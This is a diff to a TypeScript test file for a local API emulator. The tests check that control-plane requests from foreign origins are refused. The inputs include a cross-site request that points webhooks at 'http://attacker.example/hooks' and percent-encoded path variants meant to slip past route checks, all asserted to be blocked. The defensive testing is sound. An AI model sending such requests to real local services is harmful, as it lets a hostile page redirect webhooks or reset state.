@@ -53,7 +53,7 @@ t.test('--allowed-hosts adds names: exact, every name under a leading dot, or * 
   t.equal((await sandbox.app.inject({ method: 'GET', url: '/_emulator/health', headers: { host: 'other.example.com' } })).statusCode, 403);
 });
 
-t.test('a control-plane change sent by a page of another origin is refused; the same origin, reads and other clients are not', async (t) => {
+t.test('a control-plane change sent by a page of another origin is refused; the same origin and other clients are not', async (t) => {
   const sandbox = await buildTestApp();
   t.teardown(sandbox.close);
   // a frozen clock, so its `now` moves only with a change
@@ -88,12 +88,53 @@ t.test('a control-plane change sent by a page of another origin is refused; the 
   t.equal(await clockNow(sandbox, prefix), sessionBefore, 'nor the session, which still exists');
   t.equal(json(await sandbox.app.inject({ method: 'GET', url: '/_emulator/sessions' })).data.length, 1, 'no session created or ended');
 
-  // reads from any page are answered (a browser keeps a foreign page from reading them: no CORS headers)
+  // reads sent by a foreign page are refused too (the listen relay's and the streams' GETs change state)
   const read = await sandbox.app.inject({ method: 'GET', url: '/_emulator/clock', headers: { host: '127.0.0.1:4010', origin: 'https://evil.example' } });
-  t.equal(read.statusCode, 200);
+  t.equal(read.statusCode, 403);
   t.notOk(read.headers['access-control-allow-origin'], 'no CORS header');
   // the dashboard's own page, and clients that are not browsers
   t.equal((await sandbox.app.inject({ method: 'POST', url: '/_emulator/reset', headers: { host: '127.0.0.1:4010', origin: 'http://127.0.0.1:4010', 'sec-fetch-site': 'same-origin' } })).statusCode, 200);
   t.equal((await sandbox.app.inject({ method: 'POST', url: `${prefix}/_emulator/reset`, headers: { host: 'localhost:8080', origin: 'http://LOCALHOST:8080' } })).statusCode, 200, 'through a port mapping');
   t.equal((await sandbox.app.inject({ method: 'POST', url: '/_emulator/reset', headers: { host: '127.0.0.1:4010' } })).statusCode, 200, 'no Origin: curl, the kits');
+});
+
+t.test('the route the router matched is judged: an encoded /_emulator is the control plane too', async (t) => {
+  const sandbox = await buildTestApp();
+  t.teardown(sandbox.close);
+  const session = json(await sandbox.app.inject({ method: 'POST', url: '/_emulator/sessions', payload: { clock: '2026-03-01T12:00:00.000Z' } }));
+  t.equal((await advance(sandbox)).statusCode, 200);
+  const before = await clockNow(sandbox);
+  for (const url of ['/%5Femulator/reset', '/_%65mulator/reset', `/_sessions/${session.id}/%5Femulator/reset`]) {
+    const answer = await sandbox.app.inject({ method: 'POST', url, headers: { host: '127.0.0.1:4010', origin: 'https://evil.example', 'content-type': 'text/plain' } });
+    t.equal(answer.statusCode, 403, url);
+  }
+  t.equal(await clockNow(sandbox), before, 'not reset');
+});
+
+t.test('no page of another origin may send a control-plane GET but a followed link to a page that changes nothing', async (t) => {
+  const sandbox = await buildTestApp();
+  t.teardown(sandbox.close);
+  const endpoints = async () => json(await sandbox.app.inject({ method: 'GET', url: '/_emulator/webhooks/endpoint' }));
+  const before = await endpoints();
+  const cross = { host: '127.0.0.1:4010', 'sec-fetch-site': 'cross-site' };
+  // an <img> or a link to the listen relay's stream would re-point every webhook endpoint
+  for (const mode of ['no-cors', 'navigate', 'cors']) {
+    const answer = await sandbox.app.inject({ method: 'GET', url: '/_emulator/webhooks/listen/stream?forwardTo=http://attacker.example/hooks', headers: { ...cross, 'sec-fetch-mode': mode } });
+    t.equal(answer.statusCode, 403, `the listen stream, ${mode}`);
+  }
+  t.same(await endpoints(), before, 'the endpoints unchanged');
+  t.equal((await sandbox.app.inject({ method: 'GET', url: '/_emulator/ui/events', headers: { ...cross, 'sec-fetch-mode': 'cors' } })).statusCode, 403, 'a dashboard stream (it holds a place)');
+  t.equal((await sandbox.app.inject({ method: 'GET', url: '/_emulator/clock', headers: { ...cross, 'sec-fetch-mode': 'cors' } })).statusCode, 403, 'a read sent by a page');
+  t.equal((await sandbox.app.inject({ method: 'GET', url: '/_emulator/ui', headers: { ...cross, 'sec-fetch-mode': 'navigate' } })).statusCode, 200, 'a link to the dashboard');
+});
+
+t.test('the same origin, however the Host is spelled or rewritten', async (t) => {
+  const sandbox = await buildTestApp();
+  t.teardown(sandbox.close);
+  const reset = (headers: Record<string, string>) => sandbox.app.inject({ method: 'POST', url: '/_emulator/reset', headers });
+  t.equal((await reset({ host: '127.0.0.1:80', origin: 'http://127.0.0.1' })).statusCode, 200, 'the default port written out in Host');
+  t.equal((await reset({ host: '127.0.0.1', origin: 'http://127.0.0.1:80' })).statusCode, 200, 'and in Origin');
+  t.equal((await reset({ host: 'localhost:443', origin: 'https://localhost' })).statusCode, 200, 'https');
+  t.equal((await reset({ host: 'sandbox:4010', origin: 'https://sandbox.example.com', 'sec-fetch-site': 'same-origin' })).statusCode, 200, 'behind a proxy that rewrites Host, the browser says same-origin');
+  t.equal((await reset({ host: '127.0.0.1:4010', origin: 'http://127.0.0.1:80' })).statusCode, 403, 'another port');
 });
